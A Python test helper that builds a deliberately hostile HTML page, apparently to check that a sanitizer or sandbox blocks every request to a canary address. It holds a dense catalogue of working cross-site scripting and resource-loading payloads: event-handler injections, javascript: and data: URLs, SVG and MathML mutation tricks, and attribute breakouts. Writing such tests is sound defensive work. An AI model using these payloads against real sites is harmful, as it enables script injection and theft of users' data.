"""A page that tries whatever a page can do, by every way that a browser knows."""

from __future__ import annotations

from .support import markup

WORD = "harmless"


def hostile_page(canary: str) -> str:
    """A page whose every trick asks for an address below `canary`, or leaves a mark named `pwned`.

    Args:
        canary: an address that nothing must ever ask for.
    """
    script = f"top.pwned=1;parent.pwned=1;window.pwned=1;fetch('{canary}/run');top.location='{canary}/top'"
    body = f"""
<base href="{canary}/base/" target="_top">
<meta http-equiv="refresh" content="0;url={canary}/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<link rel="stylesheet" href="{canary}/sheet.css"><link rel="preload" as="image" href="{canary}/preload">
<link rel="prefetch" href="{canary}/prefetch"><link rel="dns-prefetch" href="//dns.{WORD}.example">
<link rel="preconnect" href="{canary}/preconnect"><link rel="icon" href="{canary}/icon">
<link rel="manifest" href="{canary}/manifest"><link rel="modulepreload" href="{canary}/module.js">
<style>@import url("{canary}/import.css"); body {{ background: url({canary}/background) }}
@font-face {{ font-family: x; src: url({canary}/font) }} * {{ font-family: x; cursor: url({canary}/cursor), auto }}
@namespace svg url({canary}/namespace); p::after {{ content: url({canary}/content) }}</style>
<script>{script}</script><script src="{canary}/script.js"></script><script type="module">{script}</script>
<script type="importmap">{{"imports":{{"a":"{canary}/map"}}}}</script>
<script type="speculationrules">{{"prefetch":[{{"urls":["{canary}/speculation"]}}]}}</script>
<p onclick="{script}" onmouseover="{script}" onfocus="{script}" tabindex="0" style="background:url({canary}/style)">
{WORD} words with handlers</p>
<img src="{canary}/image" onerror="{script}" alt="{WORD} picture" srcset="{canary}/srcset 2x" loading="eager">
<img src=x onerror="{script}" alt='" onerror="{script}" x="'><picture><source srcset="{canary}/source"><img alt=""></picture>
<input type="image" src="{canary}/input" onerror="{script}" alt="{WORD}"><body background="{canary}/body" onload="{script}">
<iframe src="{canary}/frame"></iframe><iframe srcdoc="&lt;script&gt;{script}&lt;/script&gt;"></iframe>
<iframe src="javascript:{script}"></iframe><frameset><frame src="{canary}/frameset"></frameset>
<object data="{canary}/object" type="image/svg+xml">{WORD} object</object>
<applet code="x" codebase="{canary}/applet"></applet><portal src="{canary}/portal"></portal>
<fencedframe src="{canary}/fenced"></fencedframe>
<audio src="{canary}/audio" autoplay onloadstart="{script}"></audio><video poster="{canary}/poster" src="{canary}/video"
 autoplay><track src="{canary}/track" default></video><bgsound src="{canary}/bgsound">
<svg onload="{script}"><script>{script}</script><image href="{canary}/svg-image" xlink:href="{canary}/xlink"/>
<use href="{canary}/use#x"/><a xlink:href="javascript:{script}"><text>{WORD} svg</text></a><set attributeName="onmouseover"
 to="{script}"/><animate attributeName="href" values="javascript:{script}"/><foreignObject><iframe src="{canary}/foreign">
</iframe><body onload="{script}"></foreignObject><style>@import "{canary}/svg.css";</style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={script}&gt;"></mglyph></table></mtext>
<maction actiontype="statusline" xlink:href="javascript:{script}">{WORD} math</maction></math>
<form action="{canary}/form" id="f" target="_top"><input name="a" value="b" autofocus onfocus="{script}"><button
 formaction="{canary}/formaction" type="submit">{WORD} button</button><input type="submit" value="send"></form>
<button form="f" formaction="javascript:{script}">{WORD} other button</button>
<a href="{canary}/link" ping="{canary}/ping" target="_top">{WORD} link</a><a href="javascript:{script}">{WORD} script link</a>
<a href="data:text/html,<script>{script}</script>" target="_top">{WORD} data link</a><map><area href="{canary}/area"></map>
<a href="#" download="{canary}/download">{WORD} download</a>
<template><script>{script}</script></template><noscript><img src="{canary}/noscript"></noscript>
<div><template shadowrootmode="open"><img src="{canary}/shadow"><script>{script}</script></template></div>
<details open ontoggle="{script}"><summary>{WORD} details</summary></details><marquee onstart="{script}">{WORD}</marquee>
<dialog open onclose="{script}">{WORD} dialog</dialog><video><source onerror="{script}"></video>
<x-element style="-moz-binding:url({canary}/binding);behavior:url({canary}/htc)" contenteditable="true">{WORD} element</x-element>
<p title="</p><script>{script}</script>" id="&quot;><script>{script}</script>" lang='en"><script>x</script>' dir="ltr onload=x"
 class="&quot; onmouseover=&quot;{script}">&lt;script&gt;{script}&lt;/script&gt; &lt;/div&gt;&lt;/span&gt;&lt;img src={canary}/text&gt;</p>
<embed src="{canary}/embed"></embed><textarea>&lt;/textarea&gt;<script>{script}</script></textarea><title></title><style></title><img src={canary}/confused></style>
<xmp><img src="{canary}/xmp"></xmp><plaintext><img src="{canary}/plaintext" onerror="{script}">
"""
    return markup(0, inside="<p>The tide was late that day, and nobody on the mole knew why.</p>", after=body)
